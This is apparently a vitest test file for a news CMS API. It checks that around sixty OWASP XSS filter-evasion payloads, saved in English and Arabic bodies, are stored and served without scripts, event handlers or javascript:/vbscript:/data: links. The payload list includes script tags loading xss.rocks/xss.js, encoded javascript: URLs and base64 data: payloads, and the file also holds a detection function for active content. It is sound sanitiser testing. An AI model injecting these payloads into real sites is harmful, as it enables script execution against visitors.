import { eq } from 'drizzle-orm';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';

import { news } from '@/lib/db/schema';

import { createStaff } from './helpers/accounts';
import { json, testApiForFile } from './helpers/test-api';
import { staffIfMatch } from './helpers/versions';

// Issue 29 "Done when": the OWASP XSS filter-evasion examples
// (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) saved as a news
// item's body through the console's route leave, stored and served, no script, no event handler
// and no javascript:, vbscript: or data: link. Each example is checked on its own (one that gets
// through is named), in the English and the Arabic body.

const api = testApiForFile();

const OWASP_EXAMPLES: Record<string, string> = {
  'plain script': '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  'script, mixed case': '<ScRiPt>alert(1)</sCrIpT>',
  'script split by a null byte': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'script with a slash for a space': '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  'script, unclosed': '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  'script, nested to survive a single pass': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script, extra open bracket': '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  'script after a quoted attribute': '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  'script with a comment in its src': '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  'img javascript:': '<IMG SRC="javascript:alert(\'XSS\');">',
  'img javascript: without quotes, mixed case': "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  'img javascript: in decimal entities':
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  'img javascript: in long decimal entities without semicolons':
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
  'img javascript: in hex entities':
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>',
  'img javascript: with an embedded tab': '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  'img javascript: with an encoded tab': '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  'img javascript: with an encoded newline': '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  'img javascript: with an encoded carriage return': '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  'img javascript: after spaces and meta characters':
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror, mixed case and slash': '<IMG/SRC=x/ OnErRoR=alert(1)>',
  'img onerror in grave accents': '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  'img with malformed quotes': '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  'img dynsrc and lowsrc':
    '<IMG DYNSRC="javascript:alert(\'XSS\')"><IMG LOWSRC="javascript:alert(\'XSS\')">',
  'img vbscript:': '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  'svg onload': '<svg onload=alert(1)>',
  'svg/onload without a space': "<svg/onload=alert('XSS')>",
  'body onload': "<BODY ONLOAD=alert('XSS')>",
  'body with odd characters before onload': '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  'event handlers in every case':
    '<p ONCLICK="a()" onMouseOver="b()" OnFocus="c()" onpointerenter="d()">x</p>',
  'event handler on a link': '<a href="https://example.jo" onmouseover="alert(1)">x</a>',
  'a javascript:': '<a href="javascript:alert(1)">x</a>',
  'a javascript: entity-encoded': '<a href="&#106;avascript&#58;alert(1)">x</a>',
  'a javascript: with &colon; and &Tab;': '<a href="java&Tab;script&colon;alert(1)">x</a>',
  'a javascript: with a newline inside': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript: with leading spaces and control characters':
    '<a href=" \u0001javascript:alert(1)">x</a>',
  'a vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
  'a VBScript: mixed case': '<a href="VbScRiPt:msgbox(1)">x</a>',
  'a data: html': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'img data: svg': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'style with expression()': '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  'style with a javascript: background':
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  'style element with javascript:':
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</LI></UL>',
  'style with @import': "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  'iframe javascript:': '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  frameset: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  object: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  embed:
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  'meta refresh javascript:':
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  'meta refresh data:':
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  'base href': '<BASE HREF="javascript:alert(\'XSS\');//">',
  'form action':
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
  'input image': '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  'link stylesheet': '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  'table background':
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  'xml data island':
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  'conditional comment': "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  'half-open html and javascript': '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  'nested quotes in an attribute':
    '<a href="https://example.jo" title=\'"><script>alert(1)</script>\'>x</a>',
  'unclosed tag swallowing the rest':
    '<img src="https://example.jo/a.png" alt="x" onerror="alert(1)"',
  'math with an xlink': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'details ontoggle': '<details open ontoggle=alert(1)>',
  'video source onerror': '<video><source onerror="alert(1)"></video>',
};

// One window's parser for every check: a new document per value, by the same HTML parser as a new
// JSDOM, which costs ten times as much (a window each time, for some 450 values).
const parser = new new JSDOM('').window.DOMParser();

/** A html value has no active content: parsed as a browser would, every attribute decoded. */
function problemsOf(html: string): string[] {
  const document = parser.parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
  const problems: string[] = [];
  const active = 'script, iframe, frame, object, embed, meta, base, form, link, style, svg, math';
  for (const element of document.body.querySelectorAll(active)) {
    problems.push(`<${element.tagName.toLowerCase()}>`);
  }
  // A <body onload> in the html lends its attributes to the document's body.
  for (const element of [document.body, ...document.body.querySelectorAll('*')]) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name}=`);
      if (name === 'style' || name === 'srcdoc') problems.push(`${name}=`);
      // What a browser strips before it reads a URL's scheme: spaces and control characters.
      const url = attribute.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
      if (/^(javascript|vbscript|data|livescript):/.test(url)) problems.push(`${name}=${url}`);
    }
  }
  return problems;
}

const PATH = (id: number) => `/api/staff/news/${id}`;

async function save(id: number, body: Record<string, string>, headers: Record<string, string>) {
  return api.request(PATH(id), {
    method: 'PUT',
    headers: {
      'Content-Type': 'application/json',
      ...(await staffIfMatch(api, 'PUT', PATH(id))),
      ...headers,
    },
    body: JSON.stringify(body),
  });
}

describe('the OWASP filter-evasion examples in a news item’s body', () => {
  it('are at least 25, and the check itself finds each of them active', () => {
    const names = Object.keys(OWASP_EXAMPLES);
    expect(names.length).toBeGreaterThanOrEqual(25);
    const missed = names.filter(
      (name) =>
        problemsOf(OWASP_EXAMPLES[name]!).length === 0 &&
        // Shapes a browser parses into nothing active; they are there for the sanitiser.
        !/null byte|split|nested|extra open|unclosed|half-open|conditional|grave|dynsrc|xml data|odd characters|malformed|frameset/.test(
          name,
        ),
    );
    expect(missed).toEqual([]);
  });

  it.each(Object.entries(OWASP_EXAMPLES))('%s: stored and served clean', async (_name, example) => {
    const editor = await createStaff(api, 'editor');
    const [item] = await api.db
      .select({ id: news.id })
      .from(news)
      .where(eq(news.status, 1))
      .limit(1);
    const id = item!.id;
    const html = `<p>Before.</p>${example}<p>After.</p>`;
    const response = await save(id, { TARIFF_ENG: html, TARIFF_ARA: html }, editor.bearer);
    if (/[\u0000-\u0008\u000e-\u001f]/.test(example)) {
      // Control characters are refused before any html is read (the input guard): nothing stored.
      expect(response.status).toBe(422);
      const [kept] = await api.db.select().from(news).where(eq(news.id, id));
      expect(kept!.TARIFF_ENG).not.toContain(example);
      return;
    }
    expect(response.status, await response.clone().text()).toBe(200);
    const answered = await json<{ TARIFF_ENG: string; TARIFF_ARA: string }>(response);

    const [row] = await api.db
      .select({ en: news.TARIFF_ENG, ar: news.TARIFF_ARA })
      .from(news)
      .where(eq(news.id, id));
    const served = await json<
      { data?: { TARIFF_ENG: string; TARIFF_ARA: string } } & {
        TARIFF_ENG?: string;
        TARIFF_ARA?: string;
      }
    >(await api.request(`/api/news/${id}`));
    const shown = served.data ?? served;

    for (const value of [
      answered.TARIFF_ENG,
      answered.TARIFF_ARA,
      row!.en,
      row!.ar,
      shown.TARIFF_ENG!,
      shown.TARIFF_ARA!,
    ]) {
      expect(problemsOf(value), value).toEqual([]);
      expect(value).not.toMatch(/<\s*script|\son[a-z]+\s*=|javascript:|vbscript:/i);
    }
  });
});
